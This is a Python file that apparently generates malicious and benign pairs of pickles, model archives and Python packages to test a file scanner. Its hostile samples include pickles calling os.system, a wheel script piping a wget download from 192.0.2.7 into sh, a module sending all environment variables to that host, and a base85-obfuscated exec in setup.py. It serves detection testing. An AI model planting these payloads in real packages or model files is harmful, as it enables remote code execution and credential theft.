"""Pickles and programs in other containers and encodings."""
import base64
import binascii
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib

from assembly import Raw, call, glob, pickle, tup, val
from first.arrays import h5, npy
from first.containers import EVIL, FLOATS, GOOD, state, tarred, torch_zip, zipped
from pair import SHELL, Set

TEXT_EVIL = b"cposix\nsystem\n(S'touch marker'\ntR."
TEXT_GOOD = b"ccollections\nOrderedDict\n(tR."


def squeezed(members, method):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.compress_type = method
            z.writestr(info, data)
    return out.getvalue()


def add(out: Set):
    def b(name, hostile, twin, file, prove=None):
        out.add("container", name, hostile, twin, prove, file=file)

    b("zip-bzip2-member", squeezed([("m/a.pkl", EVIL)], zipfile.ZIP_BZIP2), squeezed([("m/a.pkl", GOOD)], zipfile.ZIP_BZIP2), "m.zip")
    b("zip-lzma-member", squeezed([("m/a", EVIL)], zipfile.ZIP_LZMA), squeezed([("m/a", GOOD)], zipfile.ZIP_LZMA), "m.dat")
    b("npz-deflated-object", squeezed([("w.npy", npy("'|O'", "(1,)", EVIL))], zipfile.ZIP_DEFLATED), squeezed([("w.npy", npy("'<f4'", "(1,)", b"\0\0\0\0"))], zipfile.ZIP_DEFLATED), "w.npz", "numpy")
    xz = lambda data: lzma.compress(data, filters=[{"id": lzma.FILTER_X86}, {"id": lzma.FILTER_LZMA2}])
    b("xz-bcj", xz(EVIL), xz(GOOD), "m.xz")
    named = lambda data: b"\x1f\x8b\x08\x18\0\0\0\0\0\xffnotes.txt\0trained on monday\0" + zlib.compress(data, 9)[2:-4] + struct.pack("<II", zlib.crc32(data), len(data))
    b("gzip-named-and-commented", named(EVIL), named(GOOD), "notes.txt.gz")
    b("tar-long-name", tarred([("d/" * 60 + "model.pkl", EVIL)], fmt=tarfile.GNU_FORMAT), tarred([("d/" * 60 + "model.pkl", GOOD)], fmt=tarfile.GNU_FORMAT), "m.tar")
    import lz4.frame
    import zstandard

    b("tar-zst", zstandard.ZstdCompressor().compress(tarred([("m.pkl", EVIL)])), zstandard.ZstdCompressor().compress(tarred([("m.pkl", GOOD)])), "m.tar.zst")
    b("tar-lz4", lz4.frame.compress(tarred([("m.pkl", EVIL)])), lz4.frame.compress(tarred([("m.pkl", GOOD)])), "m.tar.lz4")
    b("zlib-of-zlib", zlib.compress(zlib.compress(EVIL)), zlib.compress(zlib.compress(GOOD)), "m.z")
    b("hdf5-text-pickle", h5({"model": TEXT_EVIL}), h5({"model": TEXT_GOOD}), "m.h5", "h5")
    b("json-hex-pickle", json.dumps({"scaler": binascii.hexlify(EVIL).decode()}), json.dumps({"scaler": binascii.hexlify(GOOD).decode()}), "scaler.json")
    b("yaml-binary-pickle", "scaler: !!binary |\n  " + base64.b64encode(EVIL).decode() + "\n", "scaler: !!binary |\n  " + base64.b64encode(GOOD).decode() + "\n", "scaler.yaml")
    b("csv-cell-base64", "id,model\n1," + base64.b64encode(EVIL).decode() + "\n", "id,model\n1," + base64.b64encode(GOOD).decode() + "\n", "models.csv")
    nested = lambda data: call(glob("torch.storage", "_load_from_bytes"), data)
    b("torch-load-from-bytes", torch_zip(state(nested(torch_zip(state(call(glob("os", "system"), SHELL)))))), torch_zip(state(nested(torch_zip(state())))), "m.pt")
    b("torch-mobile-bytecode", torch_zip(state(), [("bytecode.pkl", EVIL), ("mobile_debug_handles.pkl", GOOD)]), torch_zip(state(), [("bytecode.pkl", pickle((4,), 2)), ("mobile_debug_handles.pkl", pickle((4,), 2))]), "m.ptl")
    b("torch-gzipped", gzip.compress(torch_zip(state(call(glob("os", "system"), SHELL))), mtime=0), gzip.compress(torch_zip(state()), mtime=0), "m.pt.gz")
    b("npy-two-object", npy("[('k', '|O', (1,)), ('v', [('w', '<f4'), ('o', '|O')])]", "(1,)", EVIL, 2), npy("[('k', '<i4', (1,)), ('v', [('w', '<f4'), ('o', '<i4')])]", "(1,)", b"\0" * 12, 2), "s.npy", "numpy")
    b("npy-in-tar", tarred([("x/labels.npy", npy("'|O'", "(1,)", EVIL))]), tarred([("x/labels.npy", npy("'<f4'", "(1,)", b"\0" * 4))]), "d.tar")
    import msgpack

    b("msgpack-nested-bytes", msgpack.packb({"state": {"opt": {"hook": EVIL}}}), msgpack.packb({"state": {"opt": {"hook": b"plain bytes"}}}), "train_state.msgpack")
    wheel = lambda *m: zipped([("m/__init__.py", b""), *m, ("m-1.dist-info/METADATA", b"Metadata-Version: 2.1\nName: m\nVersion: 1\n"), ("m-1.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"), ("m-1.dist-info/RECORD", b"")])
    b("wheel-data-script", wheel(("m-1.data/scripts/m", b"#!/bin/sh\nwget -qO- http://192.0.2.7/x | sh\n")), wheel(("m-1.data/scripts/m", b"#!/bin/sh\nexec python -m m\n")), "m-1-py3-none-any.whl")
    b("wheel-posts-environment", wheel(("m/tracking.py", b"import os, json, urllib.request as u\nu.urlopen(u.Request('http://192.0.2.7/', json.dumps(dict(os.environ)).encode()))\n")), wheel(("m/tracking.py", b"import os\nLEVEL = os.environ.get('LEVEL')\n")), "m-1-py3-none-any.whl")
    sdist = lambda body: tarred([("m-1/setup.py", body.encode()), ("m-1/PKG-INFO", b"Metadata-Version: 2.1\nName: m\nVersion: 1\n")], "w:gz")
    b("sdist-base85", sdist("import base64\nexec(base64.b85decode('" + base64.b85encode(b"__import__('os').system('id')").decode().replace("'", "\\'") + "'))\nfrom setuptools import setup\nsetup(name='m')\n"), sdist("from setuptools import setup\nsetup(name='m')\n"), "m-1.tar.gz")
